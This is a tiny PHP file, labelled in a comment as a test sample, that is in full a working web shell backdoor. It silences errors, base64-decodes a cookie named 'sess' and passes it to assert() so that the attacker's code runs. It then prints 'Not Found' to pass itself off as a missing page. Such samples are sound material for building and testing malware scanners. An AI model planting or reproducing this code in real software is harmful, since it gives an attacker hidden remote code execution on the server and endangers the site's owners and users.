<?php
/* test sample: request data decoded and evaluated */
error_reporting(0);
if (isset($_COOKIE['sess'])) {
    @assert(base64_decode($_COOKIE['sess']));
}
echo 'Not Found';
